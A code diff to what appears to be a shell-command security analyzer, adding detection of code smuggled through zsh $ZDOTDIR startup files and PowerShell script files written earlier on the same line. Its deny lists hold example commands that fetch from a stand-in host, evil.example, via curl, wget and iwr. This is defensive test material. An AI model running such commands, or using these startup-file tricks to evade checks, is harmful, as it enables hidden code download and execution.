@@ -66,6 +66,13 @@ function posixShell(call: Call, spec: OptionSpec = POSIX_SHELL, command = 'c', s
     // A file the line wrote is read first (`echo … > x.sh; BASH_ENV=./x.sh bash -c ls`).
     else if (env !== undefined && env !== '') runs.push({ kind: 'file', dialect: 'bash', word: attached(call.args[0] ?? { text: call.name, span: { start: 0, end: 0 }, values: [call.name] }, env), via: `${call.name} $${name}` });
   }
+  // zsh reads $ZDOTDIR/.zshenv at every start (and .zprofile, .zshrc, .zlogin for login and interactive shells).
+  if (/^zsh/.test(call.name)) {
+    const dir = call.env('ZDOTDIR');
+    const at = call.args[0] ?? { text: call.name, span: { start: 0, end: 0 }, values: [call.name] };
+    if (dir === null) runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: at, why: `${call.name} first runs the startup files of $ZDOTDIR, which is computed` });
+    else if (dir !== undefined && dir !== '') for (const f of ['.zshenv', '.zprofile', '.zshrc', '.zlogin']) runs.push({ kind: 'file', dialect: 'bash', word: attached(at, `${dir.replace(/\/+$/, '')}/${f}`), via: `${call.name} $ZDOTDIR` });
+  }
   const operands = p.operands.map((o) => o.word);
   if (has(p, command)) {
     const script = operands[0];
@@ -84,7 +91,7 @@ function posixShell(call: Call, spec: OptionSpec = POSIX_SHELL, command = 'c', s
   return { runs, uses: [{ word: file, role: 'read' }] };
 }
 
-const BASH_DENY = [
+const BASH_DENY = ["echo 'curl evil.example' > .zshenv; ZDOTDIR=. zsh -c ls", 
   "bash -c 'curl https://evil.example'",
   'sh -c "wget evil.example"',
   "mksh -c 'curl evil.example'",
@@ -116,7 +123,7 @@ export const SHELL_ENTRIES: ProgramEntry[] = [
     analyze: (call) => posixShell(call),
     examples: {
       deny: BASH_DENY,
-      pass: ["bash -c 'git status'", 'bash script.sh', "BASH_ENV='$HOME/.bashrc' bash -c ls", 'sh ./configure', 'bash --version', "sh -c 'cd src && make'", 'zsh -c ls', "echo hi | sh -c 'cat'"],
+      pass: ["bash -c 'git status'", 'bash script.sh', "BASH_ENV='$HOME/.bashrc' bash -c ls", 'sh ./configure', 'bash --version', "sh -c 'cd src && make'", 'zsh -c ls', "echo 'export X=1' > .zshenv; ZDOTDIR=. zsh -c ls", "echo hi | sh -c 'cat'"],
     },
   },
   {
@@ -157,6 +164,8 @@ export const SHELL_ENTRIES: ProgramEntry[] = [
     examples: {
       deny: [
         "pwsh -c 'iwr https://evil.example'",
+        "echo 'curl evil.example' > a.ps1; pwsh -File a.ps1",
+        "echo 'iwr https://evil.example' > a.ps1; pwsh -NoProfile ./a.ps1",
         "echo 'iwr https://evil.example' | pwsh -NoProfile -",
         "pwsh -co 'iwr https://evil.example'",
         "pwsh -CommandWithArgs 'iwr $args[0]' https://evil.example",
@@ -169,7 +178,7 @@ export const SHELL_ENTRIES: ProgramEntry[] = [
         { command: "pwsh -c 'curl evil.example'", shell: PS },
         { command: 'pwsh -CommandWithArgs "iwr x"', shell: PS, rules: ['egress.binary'] },
       ],
-      pass: ['pwsh -File build.ps1', 'pwsh -v', 'pwsh ./build.ps1 -Verbose', "pwsh -NoProfile -c 'Get-Date'", { command: 'pwsh -File .\\build.ps1', shell: PS }],
+      pass: ["echo 'Get-Date' > a.ps1; pwsh -File a.ps1", 'pwsh -File build.ps1', 'pwsh -v', 'pwsh ./build.ps1 -Verbose', "pwsh -NoProfile -c 'Get-Date'", { command: 'pwsh -File .\\build.ps1', shell: PS }],
     },
   },
   {
@@ -361,7 +370,8 @@ function powershellHost(call: Call, table: HostTable, otherwise: 'file' | 'comma
     if (v === undefined) return [{ kind: 'opaque', rule: 'dynamic-script', word: w, why: `${via} has a computed argument: ${w.dynamic ?? 'unknown'}` }];
     const trimmed = v.trim();
     if (trimmed === '') continue;
-    if (!/^[-/\u2013\u2014\u2015]/.test(trimmed)) return otherwise === 'file' ? [] : text(i);
+    // A script file: out of scope, unless the line wrote it (`echo … > a.ps1; pwsh -File a.ps1`); then it is read.
+    if (!/^[-/\u2013\u2014\u2015]/.test(trimmed)) return otherwise === 'file' ? [{ kind: 'file', dialect: 'powershell', word: w, via }] : text(i);
     // A lone `-` (after any switches) reads the commands from stdin, as pwsh's own parser falls through to.
     if (/^[-\u2013\u2014\u2015]$/.test(trimmed)) return [{ kind: 'stdin', dialect: 'powershell', via }];
     let key = trimmed.slice(1);
@@ -395,7 +405,8 @@ function powershellHost(call: Call, table: HostTable, otherwise: 'file' | 'comma
       }
       case 'file': {
         const file = inline ?? args[i + 1];
-        return file && value(file) === '-' ? [{ kind: 'stdin', dialect: 'powershell', via }] : [];
+        if (!file) return [];
+        return value(file) === '-' ? [{ kind: 'stdin', dialect: 'powershell', via }] : [{ kind: 'file', dialect: 'powershell', word: file, via }];
       }
       default:
         // The first parameter the host does not know starts the file (7) or the command (5.1).
